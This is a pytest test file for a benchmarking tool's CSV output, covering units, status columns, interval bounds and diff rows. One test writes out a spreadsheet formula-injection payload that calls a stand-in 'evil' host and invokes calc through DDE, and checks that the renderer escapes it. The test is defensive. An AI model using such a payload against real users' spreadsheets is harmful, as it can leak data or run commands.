"""CSV: a field per value, in SI units."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from polybench.render import csv as csv_format
from polybench.render import render
from polybench.render.table import Records, one_line
from polybench.schema.analyses import DiffDocument, DiffRow, MachineResult, MergeDocument, StudyInfo, StudySpread
from polybench.schema.metrics import Metric
from tests.factories import measured, study, typical_study, unmeasured
from tests.figures.documents import full_overhead, full_sweep
from tests.render.malicious_inputs import MALICIOUS_TEXT, malicious_study


@pytest.fixture
def rows(columns: list[Metric]) -> dict[str, dict[str, str]]:
    text = render(typical_study(), "csv", columns=columns)
    return {row["configuration"]: row for row in csv.DictReader(io.StringIO(text))}


def test_every_configuration_has_a_row(rows: dict[str, dict[str, str]]) -> None:
    assert list(rows) == [result.configuration for result in typical_study().results]
    assert None not in rows["torch/cpu"]


def test_values_are_in_si_units(rows: dict[str, dict[str, str]]) -> None:
    step_time = typical_study().result("tf/cpu").step_time
    assert step_time is not None
    assert step_time.ci95 is not None
    assert float(rows["tf/cpu"]["step_time [s]"]) == step_time.mean
    assert float(rows["tf/cpu"]["step_time_low [s]"]) == step_time.ci95[0]
    assert float(rows["tf/cpu"]["peak_memory [B]"]) == 412 * 2**20
    assert float(rows["tf/cpu"]["speedup"]) == pytest.approx(1.9298, rel=1e-4)


def test_configurations_without_times_have_a_status(rows: dict[str, dict[str, str]]) -> None:
    assert rows["torch/cuda"]["status"] == "unavailable"
    assert rows["torch/cuda"]["step_time [s]"] == ""
    assert rows["torch/cuda"]["hint"] == "install an NVIDIA driver, then run polybench doctor"
    assert rows["tf/cuda"]["reason"] == "killed by signal 9 (SIGKILL) out of memory?"


def test_ranked_is_a_boolean(rows: dict[str, dict[str, str]]) -> None:
    assert rows["tf/cpu"]["ranked"] == "true"
    assert rows["tf+keras_fit/cpu"]["ranked"] == "false"
    assert rows["tf+keras_fit/cpu"]["variant"] == "keras_fit"


def test_environment_is_a_column(columns: list[Metric]) -> None:
    text = render(study(measured("torch/cpu", 0.01), measured("torch@old/cpu", 0.01)), "csv", columns=columns)
    assert [row["environment"] for row in csv.DictReader(io.StringIO(text))] == ["", "old"]


def test_every_row_contains_workload_and_host(rows: dict[str, dict[str, str]]) -> None:
    document = typical_study()
    settings = document.settings
    for row in rows.values():
        assert (row["study"], row["created"], row["host"]) == (
            document.id, document.created, document.host.hostname,
        )  # fmt: skip
        assert (row["model"], row["data"], row["precision"]) == ("lenet", settings.dataset, "fp32")
        assert (row["batch_size"], row["threads"]) == (str(settings.batch_size), str(settings.threads))


def test_header_does_not_depend_on_results(columns: list[Metric]) -> None:
    headers = {
        render(one, "csv", columns=columns).splitlines()[0]
        for one in (typical_study(), study(), study(unmeasured("tf/cpu", "failed", "crashed")))
    }
    (header,) = headers
    for name in ("step_time_low [s]", "step_time_high [s]", "speedup_low", "speedup_high"):
        assert name in header.split(",")
    assert "peak_memory_low" not in header


def test_malicious_texts_stay_in_their_fields() -> None:
    found = list(csv.DictReader(io.StringIO(render(malicious_study(), "csv", columns=[]), newline="")))
    assert {one["study"] for one in found} == {one_line(MALICIOUS_TEXT)}
    assert {len(one) for one in found} == {17}
    assert None not in {key for one in found for key in one}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " +", "＝"])  # noqa: RUF001 - full width
def test_no_text_is_a_formula_for_a_spreadsheet(columns: list[Metric], start: str) -> None:
    attack = start + "HYPERLINK(\"http://evil\"&A1)|' /C calc'!A0"
    document = study(unmeasured("tf/cpu", "failed", attack, attack))
    document.id = attack
    cells = [cell for row in csv.reader(io.StringIO(render(document, "csv", columns=columns))) for cell in row]
    assert [cell for cell in cells if "HYPERLINK" in cell]
    assert not [cell for cell in cells if cell.strip().startswith(tuple("=+-@＝"))]  # noqa: RUF001


def test_no_name_of_a_column_is_a_formula() -> None:
    assert csv_format.render(Records(["=1+1", "value"], [])) == "'=1+1,value\n"


def test_negative_numbers_stay_numbers() -> None:
    rows = [[-1.5, "-1.5e-3", "-1+1", True, None]]
    assert csv_format.render(Records("abcde", rows)) == "a,b,c,d,e\n-1.5,-1.5e-3,'-1+1,true,\n"


ON_TWO_MACHINES = MergeDocument(
    settings=study().settings,
    baseline=None,
    machines=[],
    results=[
        MachineResult(
            configuration="torch/cpu", engine="torch", variant=None, device="cpu", status="ok", machine="host",
            parity="pass", step_seconds=0.01, ci95=(0.009, 0.012), speedup=2.0, speedup_ci95=(1.5, 3.0),
        )
    ],
)  # fmt: skip


@pytest.mark.parametrize(
    ("document", "value", "low", "high"),
    [
        (typical_study(), "step_time [s]", "step_time_low [s]", "step_time_high [s]"),
        (full_sweep(), "speedup", "low", "high"),
        (full_overhead(), "overhead_seconds", "overhead_seconds_low", "overhead_seconds_high"),
        (full_overhead(), "seconds_per_item", "seconds_per_item_low", "seconds_per_item_high"),
        (ON_TWO_MACHINES, "step_seconds", "step_seconds_low", "step_seconds_high"),
        (ON_TWO_MACHINES, "speedup", "speedup_low", "speedup_high"),
    ],
    ids=lambda value: value if isinstance(value, str) else value.schema,
)
def test_a_value_is_between_the_bounds_of_its_own_interval(document: Any, value: str, low: str, high: str) -> None:
    rows = [row for row in csv.DictReader(io.StringIO(render(document, "csv"))) if row[low]]
    assert rows
    for row in rows:
        assert float(row[low]) < float(row[value]) < float(row[high])


def test_each_value_of_a_difference_is_in_its_column() -> None:
    one = StudyInfo("id", "2025-01-01T00:00:00Z", None, "host", "0.1.0")
    row = DiffRow(
        configuration="torch/cpu", engine="torch", device="cpu", verdict="slower", reason="a reason",
        step_seconds=(0.01, 0.02), ratio=0.5, ci95=(0.4, 0.6), q_value=0.001, machine_drift_ratio=0.9,
        controls=["tf/cpu"], corrected_ratio=0.55, corrected_ci95=(0.45, 0.65), spread=StudySpread(0.05, 3, None),
        changed={"torch": ("2.12", "2.13"), "CUDA": (None, "13")},
    )  # fmt: skip
    empty = DiffRow(configuration="jax/cpu", engine="jax", device="cpu", verdict="cannot tell")
    document = DiffDocument(a=one, b=one, tolerance=0.01, changed={}, rows=[row, empty])
    full, unknown = csv.DictReader(io.StringIO(render(document, "csv")))
    assert full == {
        "configuration": "torch/cpu", "verdict": "slower", "reason": "a reason",
        "step_seconds_a": "0.01", "step_seconds_b": "0.02", "ratio": "0.5", "low": "0.4", "high": "0.6",
        "q_value": "0.001", "machine_drift_ratio": "0.9",
        "corrected_ratio": "0.55", "corrected_low": "0.45", "corrected_high": "0.65",
        "spread": "0.05", "repetitions": "3", "changed": "torch: 2.12 -> 2.13; CUDA: none -> 13",
    }  # fmt: skip
    assert unknown == dict.fromkeys(full, "") | {"configuration": "jax/cpu", "verdict": "cannot tell"}
